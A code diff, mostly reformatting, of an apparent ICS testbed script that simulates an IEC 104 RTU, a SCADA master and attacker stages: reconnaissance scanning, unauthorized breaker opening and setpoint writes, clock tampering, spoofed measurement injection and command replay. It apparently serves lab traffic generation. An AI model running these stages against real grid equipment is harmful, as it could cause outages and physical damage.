@@ -4,14 +4,22 @@ select-and-execute command; a SCADA client (c104) with general interrogation, cl
 operator's commands; the link mechanics (S-frames, TESTFR, k/w, t1-t3) are lib60870's own.  The
 attacker speaks raw APCI/ASDU with sequence numbers of its own."""
 
-
 import logging
 import random
-import socket
 import struct
 import time
 
-from common import ATTACKER, DEVICES, MASTER, SCAN_PORTS, LoopTap, attacker_socket, echo_timestamps, log, port_scan
+from common import (
+    ATTACKER,
+    DEVICES,
+    MASTER,
+    SCAN_PORTS,
+    LoopTap,
+    attacker_socket,
+    echo_timestamps,
+    log,
+    port_scan,
+)
 
 RTU, PORT = DEVICES["iec104"]
 CA = 1
@@ -32,6 +40,7 @@ def requirement() -> str | None:
 
 # --- RTU -------------------------------------------------------------------------------------------
 
+
 def server(seed: int, command_every: float) -> None:
     import c104
 
@@ -41,21 +50,28 @@ def server(seed: int, command_every: float) -> None:
     meas = [st.add_point(io_address=a, type=c104.Type.M_ME_NC_1) for a in IOA_MEAS]
     temp = st.add_point(io_address=IOA_TEMP, type=c104.Type.M_ME_NC_1, report_ms=15000)
     breaker = st.add_point(io_address=IOA_BREAKER, type=c104.Type.M_SP_NA_1)
-    cmd = st.add_point(io_address=IOA_BREAKER_CMD, type=c104.Type.C_SC_NA_1, related_io_address=IOA_BREAKER,
-                       related_io_autoreturn=True, command_mode=c104.CommandMode.SELECT_AND_EXECUTE)
+    cmd = st.add_point(
+        io_address=IOA_BREAKER_CMD,
+        type=c104.Type.C_SC_NA_1,
+        related_io_address=IOA_BREAKER,
+        related_io_autoreturn=True,
+        command_mode=c104.CommandMode.SELECT_AND_EXECUTE,
+    )
     setpoint = st.add_point(io_address=IOA_SETPOINT, type=c104.Type.C_SE_NC_1)
     breaker.value = True
     temp.value = 45.0
     state = {"setpoint": 11000.0}
 
     # c104 checks the callbacks' annotations
-    def on_breaker(point: c104.Point, previous_info: c104.Information,
-                   message: c104.IncomingMessage) -> c104.ResponseState:
+    def on_breaker(
+        point: c104.Point, previous_info: c104.Information, message: c104.IncomingMessage
+    ) -> c104.ResponseState:
         breaker.value = bool(point.value)
         return c104.ResponseState.SUCCESS
 
-    def on_setpoint(point: c104.Point, previous_info: c104.Information,
-                    message: c104.IncomingMessage) -> c104.ResponseState:
+    def on_setpoint(
+        point: c104.Point, previous_info: c104.Information, message: c104.IncomingMessage
+    ) -> c104.ResponseState:
         state["setpoint"] = float(point.value)
         return c104.ResponseState.SUCCESS
 
@@ -80,6 +96,7 @@ def server(seed: int, command_every: float) -> None:
 
 # --- SCADA client ----------------------------------------------------------------------------------
 
+
 def master(seed: int, command_every: float) -> None:
     import c104
 
@@ -88,8 +105,9 @@ def master(seed: int, command_every: float) -> None:
     client = c104.Client(tick_rate_ms=100, command_timeout_ms=5000)
     conn = client.add_connection(ip=RTU, port=PORT, init=c104.Init.ALL)  # STARTDT, GI, clock sync
     st = conn.add_station(common_address=CA)
-    cmd = st.add_point(io_address=IOA_BREAKER_CMD, type=c104.Type.C_SC_NA_1,
-                       command_mode=c104.CommandMode.SELECT_AND_EXECUTE)
+    cmd = st.add_point(
+        io_address=IOA_BREAKER_CMD, type=c104.Type.C_SC_NA_1, command_mode=c104.CommandMode.SELECT_AND_EXECUTE
+    )
     sp = st.add_point(io_address=IOA_SETPOINT, type=c104.Type.C_SE_NC_1)
     client.start()
     next_gi = time.time() + GI_EVERY
@@ -148,7 +166,7 @@ class Session:
             self.sock.settimeout(max(0.01, min(0.2, deadline - time.time())))
             try:
                 data = self.sock.recv(65536)
-            except (TimeoutError, socket.timeout):
+            except TimeoutError:
                 if got:
                     break
                 continue
@@ -156,7 +174,7 @@ class Session:
                 break
             self.buf += data
             while len(self.buf) >= 2 and len(self.buf) >= self.buf[1] + 2:
-                apdu, self.buf = self.buf[:self.buf[1] + 2], self.buf[self.buf[1] + 2:]
+                apdu, self.buf = self.buf[: self.buf[1] + 2], self.buf[self.buf[1] + 2 :]
                 if apdu[2] & 1 == 0:  # I-frame
                     self.vr = (self.vr + 1) % 32768
                     self.unacked += 1
@@ -185,8 +203,9 @@ class Session:
 def cp56(t: float) -> bytes:
     tm = time.gmtime(t)
     ms = tm.tm_sec * 1000 + int((t % 1) * 1000)
-    return struct.pack("<H", ms) + bytes([tm.tm_min, tm.tm_hour, tm.tm_mday | ((tm.tm_wday + 1) << 5), tm.tm_mon,
-                                          tm.tm_year % 100])
+    return struct.pack("<H", ms) + bytes(
+        [tm.tm_min, tm.tm_hour, tm.tm_mday | ((tm.tm_wday + 1) << 5), tm.tm_mon, tm.tm_year % 100]
+    )
 
 
 def stage_recon(ctx) -> str:
@@ -200,9 +219,11 @@ def stage_recon(ctx) -> str:
         s.send(asdu(102, 5, ioa), wait=0.2)
     s.send(asdu(101, 6, 0, bytes([5])), wait=0.5)  # counter interrogation
     s.close()
-    return (f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), general interrogation of common "
-            f"addresses 1-5 and broadcast (answered: {answered}), read commands over IOA 1000-1011/2000/2001/5001/6001, "
-            f"counter interrogation on {RTU}")
+    return (
+        f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), general interrogation of common "
+        f"addresses 1-5 and broadcast (answered: {answered}), read commands over IOA 1000-1011/2000/2001/5001/6001, "
+        f"counter interrogation on {RTU}"
+    )
 
 
 def stage_write(ctx) -> str:
@@ -215,8 +236,10 @@ def stage_write(ctx) -> str:
     time.sleep(2)
     s.send(asdu(50, 6, IOA_SETPOINT, struct.pack("<fB", 11000.0, 0)), wait=1.0)
     s.close()
-    return (f"new host opens the breaker (C_SC_NA_1 direct execute on IOA {IOA_BREAKER_CMD}), sets the voltage "
-            f"setpoint to 14500 (C_SE_NC_1), sets the RTU clock 1 h back (C_CS_NA_1), then restores the setpoint, on {RTU}")
+    return (
+        f"new host opens the breaker (C_SC_NA_1 direct execute on IOA {IOA_BREAKER_CMD}), sets the voltage "
+        f"setpoint to 14500 (C_SE_NC_1), sets the RTU clock 1 h back (C_CS_NA_1), then restores the setpoint, on {RTU}"
+    )
 
 
 def stage_flood(ctx) -> str:
@@ -258,7 +281,9 @@ def stage_spoof(ctx) -> str:
             ns, nr = struct.unpack_from("<HH", p, 2)
             body = asdu(13, 3, IOA_MEAS[0], struct.pack("<fB", 11000.0, 0))
             frame = bytes([0x68, len(body) + 4]) + struct.pack("<HH", (ns + 2) & 0xFFFF, nr) + body
-            tap.inject(RTU, MASTER, PORT, seg.dport, seg.seq + len(p), seg.ack, frame, echo_timestamps(seg.options))
+            tap.inject(
+                RTU, MASTER, PORT, seg.dport, seg.seq + len(p), seg.ack, frame, echo_timestamps(seg.options)
+            )
             sent += 1
             time.sleep(1.0)
     finally:
@@ -270,8 +295,8 @@ def stage_replay(ctx) -> str:
     frames = []
     for p in ctx.recorded:  # split segments into APDUs
         while len(p) >= 2 and p[0] == 0x68 and len(p) >= p[1] + 2:
-            frames.append(p[:p[1] + 2])
-            p = p[p[1] + 2:]
+            frames.append(p[: p[1] + 2])
+            p = p[p[1] + 2 :]
     cmds = [f for f in frames if len(f) > 6 and f[2] & 1 == 0 and f[6] in (45, 46, 48, 49, 50, 103)]
     pick = [STARTDT_ACT] + cmds[-6:] + [f for f in frames if len(f) > 6 and f[2] & 1 == 0][-4:]
     s = attacker_socket(RTU, PORT)
